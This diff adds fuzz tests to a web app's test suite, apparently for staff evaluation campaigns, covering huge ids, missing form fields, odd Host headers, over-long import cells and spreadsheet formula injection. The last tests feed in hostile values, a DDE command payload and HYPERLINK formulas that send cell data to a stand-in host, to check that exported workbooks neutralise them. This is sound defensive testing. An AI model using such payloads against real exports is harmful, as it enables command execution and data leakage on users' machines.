@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+import io
 import re
 
 import pytest
 import sqlalchemy as sa
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 from werkzeug.datastructures import MultiDict
 
 from analysis import allocate_proportional
 from evalapp.ballotbox.models import SealedBallot
+from evalapp.campaigns.models import Campaign, ProblemEntry, Subject
 from evalapp.extensions import db
 from evalapp.roster.operations import ColumnMapping, check_roster
 from tests.conftest import csrf_token, login
@@ -153,3 +156,187 @@ def test_broken_encodings_are_refused_not_crashing(client, tickets):
     assert response.status_code in (400, 422)
     assert client.get("/t/%FF%FE").status_code == 404
     assert client.get("/t/%FF%FE%00").status_code == 400
+
+
+# --- hostile requests of issue 15: each kind generated ---------------------------------------
+
+ROUTE_ARGUMENT = re.compile(r"<(?:(\w+)(?:\(([^)]*)\))?:)?(\w+)>")
+
+
+def every_route_with_ids(app) -> list[tuple[str, str]]:
+    """(method, rule) of every route taking an id, GET where it answers GET, else POST."""
+    return sorted(("GET" if "GET" in rule.methods else "POST", rule.rule)
+                  for rule in app.url_map.iter_rules() if "<int:" in rule.rule)
+
+
+def filled(rule: str, number: int) -> str:
+    """The route with `number` for every id, the first choice for every `any(...)`."""
+    def value(match: re.Match) -> str:
+        kind, choices = match.group(1), match.group(2)
+        if kind == "int":
+            return str(number)
+        return choices.split(",")[0].strip() if kind == "any" else "x"
+    return ROUTE_ARGUMENT.sub(value, rule)
+
+
+@settings(FUZZ, max_examples=25)
+@given(data=st.data())
+def test_ids_beyond_the_databases_integers_are_not_found(app, client, organiser_forms, data):
+    """From 2³¹ (PostgreSQL's integer) and 2⁶³ (SQLite's) up, in every route with an id, the
+    public ones too, and in the query strings of the pages that read ids from them."""
+    number = data.draw(st.one_of(st.sampled_from([2**31, 2**31 + 1, 2**63, 2**64]),
+                                 st.integers(2**31, 2**100)), label="id")
+    anonymous = app.test_client()
+    token = csrf_token(client, "/")
+    for method, rule in every_route_with_ids(app):
+        path = filled(rule, number)
+        for who in (client, anonymous):
+            response = (who.get(path) if method == "GET"
+                        else who.post(path, data={"csrf_token": token}))
+            assert response.status_code in (302, 303, 400, 403, 404), (path, response.status_code)
+    for path in (f"/lookback/?earlier={number}&later={number}",
+                 f"/lookback/chart.png?earlier={number}&later={number}",
+                 f"/campaigns/1/roster/mapping?upload={number}.csv"):
+        assert client.get(path).status_code < 500, path
+
+
+def current_values(page: str) -> dict[str, str]:
+    """What the page's form would send as it is: inputs, chosen options, text areas."""
+    values = dict(re.findall(r'<input[^>]*name="([a-z_0-9-]+)"[^>]*value="([^"]*)"', page))
+    values.update(re.findall(r'<select[^>]*name="([a-z_0-9-]+)"[^>]*>.*?<option selected '
+                             r'value="([^"]*)"', page, re.DOTALL))
+    values.update(re.findall(r'<textarea[^>]*name="([a-z_0-9-]+)"[^>]*>([^<]*)</textarea>',
+                             page))
+    return values
+
+
+@settings(FUZZ, max_examples=15)
+@given(data=st.data())
+def test_posts_missing_any_of_their_fields_never_fail(app, client, organiser_forms, data):
+    """Every form posted as the page shows it but without some of its fields (a subject edit
+    without `problems` fell back to the subject's problem entries: a 500) is refused or read
+    as sent."""
+    with app.app_context():
+        subject = db.session.get(Subject, 1)
+        if not subject.problems:
+            subject.problems = [ProblemEntry(position=1, text="问题清单的问题")]
+            db.session.commit()
+    for path, names in organiser_forms:
+        values = current_values(client.get(path).get_data(as_text=True))
+        kept = [name for name in names if data.draw(st.booleans(), label=f"{path} {name}")]
+        payload = {name: values.get(name, "") for name in kept}
+        payload["csrf_token"] = csrf_token(client, "/")
+        response = client.post(path, data=payload)
+        assert response.status_code < 500, (path, kept, response.status_code)
+    with app.app_context():
+        db.session.rollback()
+
+
+HOSTS = st.one_of(
+    st.sampled_from(["[::1]", "[::1]:5000", "[::1]:x", "[fe80::1%eth0]", "localhost:99999",
+                     "localhost:", "localhost:-1", "[", "]", "evalapp.test:0", "::1"]),
+    st.from_regex(r"\A[a-z0-9.:\[\]%-]{1,30}\Z"),
+)
+
+
+@settings(FUZZ, max_examples=12)
+@given(host=HOSTS)
+def test_any_host_header_on_the_tickets_page(app, client, organiser_forms, host):
+    """The tickets page prints the address the request came in on: `Host: [::1]` was read as
+    port "1]" (a 500)."""
+    path = "/campaigns/1/tickets/"
+    # The organiser's session sent by hand: the test client would send its cookies only to the
+    # host of the URL.
+    bare = app.test_client(use_cookies=False)
+    overrides = {"HTTP_HOST": host,
+                 "HTTP_COOKIE": f"session={client.get_cookie('session').value}"}
+    page = bare.get(path, environ_overrides=overrides)
+    assert page.status_code in (200, 400), page.status_code
+    response = bare.post(path, environ_overrides=overrides, data={
+        "csrf_token": csrf_token(client, "/"), "rater_group": "1", "subjects": "1",
+        "count": "1", "spares": "0", "output": "pdf"})
+    assert response.status_code in (200, 400), response.status_code
+    if response.status_code == 200:
+        assert response.mimetype == "application/pdf"
+
+
+LONG_TEXT = st.text(alphabet=st.sampled_from("王伟宁波海关ＡＢ１2 -"), min_size=0, max_size=400)
+
+
+@settings(FUZZ, max_examples=12)
+@given(name=LONG_TEXT, staff=LONG_TEXT, unit=LONG_TEXT, department=LONG_TEXT)
+def test_over_long_cells_in_imports_are_refused_with_a_message(app, client, organiser_forms,
+                                                               name, staff, unit, department):
+    """Roster cells beyond their columns (name 100, staff number 50, unit 100) and ledger
+    departments beyond theirs (100 and 300): PostgreSQL refused the insert (a 500)."""
+    roster_csv = f"姓名,工号,单位,测评人类别\n{name},{staff},{unit},机关党员\n".encode()
+    path = "/campaigns/1/roster/"
+    uploaded = client.post(path, content_type="multipart/form-data", data={
+        "csrf_token": csrf_token(client, path), "file": (io.BytesIO(roster_csv), "r.csv")})
+    assert uploaded.status_code in (303, 422)
+    if uploaded.status_code == 303:
+        location = uploaded.headers["Location"]
+        upload = re.search(r"upload=([0-9a-f]{32}\.csv)", location).group(1)
+        done = client.post("/campaigns/1/roster/mapping", data={
+            "csrf_token": csrf_token(client, location), "upload": upload, "name": 0,
+            "staff_number": 1, "unit": 2, "group": 3, "office": -1, "membership": -1,
+            "confirm": "1"})
+        too_long = len(name.strip()) > 100 or len("".join(staff.split())) > 50 or len(
+            unit.strip()) > 100
+        assert done.status_code in (303, 409, 422), done.status_code
+        if too_long:
+            assert done.status_code == 422 and "超过" in done.get_data(as_text=True)
+    responsible = department.strip() or "办公室"
+    ledger_csv = ("被评对象,序号,来源,问题,整改措施,责任部门,配合部门,整改时限,状态,完成情况,"
+                  f"完成日期\n宁波海关 · 述职人1,1,领导点评,问题,措施,{responsible},"
+                  f"{department},2099-01-01,未开始,,\n").encode()
+    imported = client.post("/campaigns/1/rectification/import",
+                           content_type="multipart/form-data",
+                           data={"csrf_token": csrf_token(client, "/"),
+                                 "file": (io.BytesIO(ledger_csv), "l.csv")})
+    refused = len(responsible) > 100 or len(department.strip()) > 300
+    assert imported.status_code == (422 if refused else 303)
+    with app.app_context():
+        db.session.rollback()
+
+
+@settings(FUZZ, max_examples=10)
+@given(start=st.sampled_from(["=", "+", "-", "@"]), rest=st.sampled_from([
+    'HYPERLINK("http://x.test/?"&A2,"点此")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]))
+def test_titles_that_look_like_formulas_are_text_in_the_ledger_workbook(
+        app, client, organiser_forms, start, rest):
+    with app.app_context():
+        db.session.get(Campaign, 1).title = start + rest
+        db.session.commit()
+    response = client.get("/campaigns/1/rectification/ledger.xlsx")
+    assert formula_cells(response.data) == []
+    assert load_workbook(io.BytesIO(response.data)).active["A1"].value.startswith(start + rest)
+
+
+def formula_cells(data: bytes) -> list[str]:
+    """Cells of every sheet that Excel would run, and cells of text that starts like a formula
+    without Excel's quote prefix (editing them would make them formulas)."""
+    workbook = load_workbook(io.BytesIO(data))
+    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets
+            for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"
+                                         and not cell.quotePrefix)]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_titles_and_names_that_look_like_formulas_are_text_in_the_results_workbook(
+        app, client, start):
+    from tests.test_print import closed_campaign
+
+    campaign_id = closed_campaign(app, ["好"] * 5, person=start + "1+1",
+                                  group=start + 'HYPERLINK("http://x.test","组")')
+    with app.app_context():
+        db.session.get(Campaign, campaign_id).title = start + 'HYPERLINK("http://x.test","看")'
+        db.session.commit()
+    login(client, "leader")
+    response = client.get(f"/campaigns/{campaign_id}/results/export.xlsx")
+    assert response.status_code == 200
+    assert formula_cells(response.data) == []
+    texts = {cell.value for sheet in load_workbook(io.BytesIO(response.data)).worksheets
+             for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert any(text.startswith(start + "HYPERLINK") for text in texts)
